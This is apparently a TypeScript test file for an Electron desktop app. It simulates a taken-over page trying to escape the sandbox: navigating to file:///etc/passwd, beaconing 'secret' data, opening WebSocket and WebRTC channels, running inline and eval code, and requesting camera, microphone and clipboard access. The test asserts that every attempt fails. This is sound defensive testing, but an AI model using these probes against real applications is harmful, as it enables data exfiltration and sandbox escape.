// What a page that was taken over would try: to leave, to reach out, to ask the system, to run what it was not given. The
// page stays where it is, and nothing arrives anywhere.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import type { Page } from 'playwright';
import { policyFor, temporaryHome } from '../support/core.ts';
import { copyRecordedApp, launchDesktop, windowOf, type DesktopApp } from '../support/desktop-app.ts';
import { openDisplay, withoutElectron } from '../support/electron.ts';
import { startFakeServer } from '../support/fake-server.ts';
import { until } from '../support/http.ts';
import { openListeningPost } from '../support/listening-post.ts';

interface Places {
  /** Somewhere outside. */
  readonly outside: string;
  readonly port: number;
  /** The router's own door. */
  readonly door: string;
}

/** What a step of the page came to: a word of why not, or what it got. */
const attempts = {
  'a window': ({ outside }: Places) =>
    [outside, 'about:blank', location.href, 'file:///etc/passwd', 'data:text/html,x', 'app://other/'].filter(
      (url) => window.open(url) !== null,
    ),
  'a link in a new window': ({ outside }: Places) => {
    const link = document.body.appendChild(document.createElement('a'));
    Object.assign(link, { href: outside, target: '_blank', rel: 'opener' });
    link.click();
    link.remove();
  },
  'another place': async ({ outside }: Places) => {
    for (const url of [outside, 'file:///etc/passwd', 'data:text/html,gone', 'app://other/']) {
      location.href = url;
      await new Promise((resolve) => requestAnimationFrame(resolve));
      location.replace(url);
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
  },
  'a link': ({ outside }: Places) => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = outside;
    link.click();
    link.remove();
  },
  'a file to keep': ({ outside }: Places) => {
    const link = document.body.appendChild(document.createElement('a'));
    Object.assign(link, { href: `${outside}file.zip`, download: 'file.zip' });
    link.click();
    link.remove();
  },
  'a form': ({ outside }: Places) => {
    for (const method of ['get', 'post']) {
      const form = document.body.appendChild(document.createElement('form'));
      Object.assign(form, { action: outside, method });
      form.submit();
      form.remove();
    }
  },
  'a refresh': async ({ outside }: Places) => {
    const meta = document.head.appendChild(document.createElement('meta'));
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${outside}`;
    await new Promise((resolve) => setTimeout(resolve, 50));
    meta.remove();
  },
  'another base': ({ outside }: Places) => {
    const base = document.head.appendChild(document.createElement('base'));
    base.href = outside;
    const there = document.baseURI;
    base.remove();
    return there.startsWith('app://router/') ? [] : [there];
  },
  frames: async ({ outside }: Places) => {
    const urls = [outside, 'file:///etc/passwd', 'app://other/'];
    for (const tag of ['iframe', 'embed', 'object', 'webview', 'img', 'video', 'link', 'script'])
      for (const url of urls) {
        const element = document.createElement(tag);
        if (tag === 'link') element.setAttribute('rel', 'stylesheet');
        for (const name of ['src', 'data', 'href']) element.setAttribute(name, url);
        document.body.appendChild(element);
        await new Promise((resolve) => setTimeout(resolve, 20));
        element.remove();
      }
  },
  hints: async ({ outside }: Places) => {
    for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon']) {
      const link = document.createElement('link');
      Object.assign(link, { rel, href: outside, as: 'script' });
      document.head.appendChild(link);
      await new Promise((resolve) => setTimeout(resolve, 20));
      link.remove();
    }
  },
  requests: async ({ outside, door }: Places) => {
    const got: string[] = [];
    const urls = [outside, `${door}/health`, 'file:///etc/passwd', 'app://other/', 'app://router.evil/health'];
    for (const url of urls) {
      for (const mode of ['cors', 'no-cors'] as const)
        await fetch(url, { mode }).then(
          () => got.push(`${mode} ${url}`),
          () => undefined,
        );
      await new Promise<void>((resolve) => {
        const asked = new XMLHttpRequest();
        asked.onload = () => got.push(`asked ${url}`);
        asked.onloadend = () => resolve();
        asked.open('GET', url);
        asked.send();
      });
    }
    navigator.sendBeacon(outside, 'secret');
    return got;
  },
  'lines that stay open': async ({ outside, port }: Places) => {
    const ended = (line: EventSource | WebSocket) =>
      new Promise<string[]>((resolve) => {
        line.onopen = () => resolve([line.url]);
        line.onerror = () => resolve([]);
      });
    const opened = [await ended(new EventSource(outside))];
    try {
      opened.push(await ended(new WebSocket(`ws://127.0.0.1:${port}/`)));
    } catch {
      // Refused before it began.
    }
    return opened.flat();
  },
  'a line past the browser’s own': async ({ port }: Places) => {
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:127.0.0.1:${port}` },
        { urls: [`turn:127.0.0.1:${port}?transport=tcp`], username: 'secret', credential: 'secret' },
      ],
    });
    peer.createDataChannel('out');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 300));
    peer.close();
  },
  'workers of its own': async () => {
    const made: string[] = [];
    const sources = ['data:text/javascript,postMessage(1)', URL.createObjectURL(new Blob(['postMessage(1)']))];
    for (const source of sources) {
      const worked = await new Promise((resolve) => {
        try {
          const worker = new Worker(source);
          worker.onmessage = () => resolve(true);
          worker.onerror = () => resolve(false);
        } catch {
          resolve(false);
        }
      });
      if (worked === true) made.push(source.slice(0, 4));
    }
    const registered = await navigator.serviceWorker?.register('/assets/x.js').then(
      () => true,
      () => false,
    );
    return registered === true ? [...made, 'service'] : made;
  },
  'what Node has': () =>
    ['require', 'process', 'Buffer', 'module', 'global', '__dirname', 'setImmediate', 'ipcRenderer', 'electron'].filter(
      (name) => name in window,
    ),
  'code of its own': async () => {
    const ran: string[] = [];
    const mark = (word: string): string => `document.documentElement.dataset.ran = '${word}'`;
    const look = (word: string): void => {
      if (document.documentElement.dataset['ran'] === word) ran.push(word);
    };
    const inline = document.createElement('script');
    inline.textContent = mark('inline');
    document.body.appendChild(inline);
    look('inline');
    for (const source of [`data:text/javascript,${mark('data')}`, URL.createObjectURL(new Blob([mark('blob')]))]) {
      const script = document.createElement('script');
      await new Promise((resolve) => {
        script.onload = script.onerror = resolve;
        script.src = source;
        document.body.appendChild(script);
      });
    }
    look('data');
    look('blob');
    const button = document.createElement('button');
    button.setAttribute('onclick', mark('handler'));
    document.body.appendChild(button);
    button.click();
    look('handler');
    const link = document.body.appendChild(document.createElement('a'));
    link.setAttribute('href', `javascript:${mark('address')}`);
    link.click();
    await new Promise((resolve) => setTimeout(resolve, 20));
    look('address');
    const style = document.createElement('style');
    style.textContent = ':root { --ran: yes }';
    document.head.appendChild(style);
    if (getComputedStyle(document.documentElement).getPropertyValue('--ran') !== '') ran.push('style');
    button.setAttribute('style', '--ran: yes');
    if (getComputedStyle(button).getPropertyValue('--ran') !== '') ran.push('style of one');
    for (const element of [inline, button, link, style]) element.remove();
    return ran;
  },
  'code out of words': async () => {
    const made: string[] = [];
    const named = (name: string): never => Reflect.get(window, name) as never;
    const ways = {
      eval: () => Reflect.apply(named('eval'), window, ['1']),
      Function: () => Reflect.construct(named('Function'), ['return 1']),
    };
    // What a test asks of the page by itself may make code; what runs in the page's own turn may not.
    await new Promise((resolve) => setTimeout(resolve, 0));
    for (const [name, way] of Object.entries(ways))
      try {
        way();
        made.push(name);
      } catch (error) {
        if (!(error instanceof EvalError)) throw error;
      }
    return made;
  },
  'what the person would be asked for': async () => {
    const granted: string[] = [];
    const ask = async (name: string, asked: () => Promise<unknown> | undefined): Promise<void> => {
      try {
        const answer = await asked();
        const isNone = Array.isArray(answer) && answer.length === 0;
        if (answer !== undefined && answer !== 'denied' && answer !== 'default' && !isNone) granted.push(name);
      } catch {
        // Refused.
      }
    };
    const where = () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject));
    const { mediaDevices, clipboard } = navigator;
    const devices = navigator as unknown as Record<string, { requestDevice?: (o: object) => Promise<unknown> }>;
    await ask('geolocation', where);
    await ask('notifications', () => Notification.requestPermission());
    await ask('camera', () => mediaDevices.getUserMedia({ video: true }));
    await ask('microphone', () => mediaDevices.getUserMedia({ audio: true }));
    await ask('the screen', () => mediaDevices.getDisplayMedia());
    await ask('the clipboard', () => clipboard.readText());
    for (const kind of ['usb', 'hid', 'bluetooth'])
      await ask(kind, () => devices[kind]?.requestDevice?.({ filters: [] }));
    for (const name of ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read'])
      await ask(`${name}, as it is told`, async () => {
        const { state } = await navigator.permissions.query({ name: name as PermissionName });
        return state === 'granted' ? state : undefined;
      });
    return granted;
  },
} satisfies Readonly<Record<string, (places: Places) => unknown>>;

/** So much as a page is in the app: its own, and nothing beside it. */
const staysAlone = ({ inside }: DesktopApp) =>
  inside(({ BrowserWindow, webContents }) => ({
    windows: BrowserWindow.getAllWindows().length,
    contents: webContents.getAllWebContents().length,
  }));

const isThere = (page: Page): Promise<boolean> =>
  page.evaluate(() => document.querySelector('main h1')?.textContent === 'Home');

test('a page that was taken over cannot leave, reach out, ask, or run anything else', {
  skip: withoutElectron,
}, async (t) => {
  using home = temporaryHome();
  using copy = copyRecordedApp();
  using display = await openDisplay();
  await using upstream = await startFakeServer();
  await using post = await openListeningPost();
  home.write('policy.yaml', policyFor(upstream.url));
  await using desktop = await launchDesktop({ home, folder: copy.folder, display: display.name });
  const page = await windowOf(desktop);
  // A page that has no focus may not ask for a clipboard at all, and a bare display now and then gives it none, whatever
  // is asked of it: nobody manages windows there.
  const isFocused = async (): Promise<boolean> => {
    const debug = await page.context().newCDPSession(page);
    await debug.send('Emulation.setFocusEmulationEnabled', { enabled: true });
    const hasFocus = (): Promise<boolean> => page.evaluate(() => document.hasFocus());
    return until('the page has the focus', hasFocus, 5_000).then(
      () => true,
      () => false,
    );
  };
  const focus = await isFocused();
  const places: Places = { outside: `http://127.0.0.1:${post.port}/`, port: post.port, door: desktop.url() };

  for (const [name, attempt] of Object.entries(attempts)) {
    await t.test(`it does not get ${name}`, async () => {
      const got = await page.evaluate(attempt as (places: Places) => unknown, places);
      assert.deepEqual(got ?? [], []);
      assert.equal(page.url(), 'app://router/');
      assert.ok(await isThere(page));
      assert.deepEqual(await staysAlone(desktop), { windows: 1, contents: 1 });
      assert.equal(post.heard(), 0);
      assert.deepEqual(await desktop.recorded(({ browsed }) => browsed), []);
    });
  }

  await t.test('no name is looked up for a hint of its own', async () => {
    const path = join(home.folder, 'net-log.json');
    const pages = 'persist:page';
    await desktop.inside(
      ({ session }, [name, to]) => session.fromPartition(name).netLog.startLogging(to, { captureMode: 'everything' }),
      [pages, path] as const,
    );
    await page.evaluate(async () => {
      for (const rel of ['dns-prefetch', 'preconnect']) {
        const link = document.head.appendChild(document.createElement('link'));
        Object.assign(link, { rel, href: `https://${rel}.leaks.test/` });
        await new Promise((resolve) => setTimeout(resolve, 100));
        link.remove();
      }
    });
    await desktop.inside(({ session }, name) => session.fromPartition(name).netLog.stopLogging(), pages);
    const log = readFileSync(path, 'utf8');
    assert.match(log, /HOST_RESOLVER/);
    assert.ok(!log.includes('leaks.test'));
  });

  await t.test('where it leaves for an empty page, it is brought back', async () => {
    await page.evaluate(() => {
      document.documentElement.dataset['before'] = 'yes';
      setTimeout(() => location.assign('about:blank'));
    });
    await page.waitForFunction(
      () =>
        document.documentElement.dataset['before'] === undefined &&
        document.querySelector('main h1')?.textContent === 'Home',
    );
  });

  await t.test(
    'a link to an address of https is for the browser, one that installs in an editor for that',
    async () => {
      const links = ['https://models.test/licence', 'vscode:mcp/install?%7B%7D'];
      for (const link of [...links, 'vscode://file/etc/passwd', 'cursor://elsewhere/mcp/install?name=x'])
        assert.equal(await page.evaluate((to) => window.open(to), link), null);
      assert.deepEqual(await desktop.recorded(({ browsed }) => browsed), links);
      assert.deepEqual(await staysAlone(desktop), { windows: 1, contents: 1 });
    },
  );

  await t.test(
    'what it may do is to copy',
    { skip: focus ? false : 'the display gave the page no focus' },
    async () => {
      assert.equal(
        await page.evaluate(() =>
          navigator.clipboard.writeText('copied').then(
            () => 'copied',
            (error: unknown) => String(error),
          ),
        ),
        'copied',
      );
      assert.equal(await desktop.inside(({ clipboard }) => clipboard.readText()), 'copied');
    },
  );

  await t.test('and to ask the desktop, by these names alone', async () => {
    const names = await page.evaluate<string[]>('Object.keys(window.desktop).sort()');
    assert.deepEqual(names, ['act', 'onGo', 'onState', 'pathOf', 'pickModel', 'state']);
  });

  assert.equal(post.heard(), 0);
});
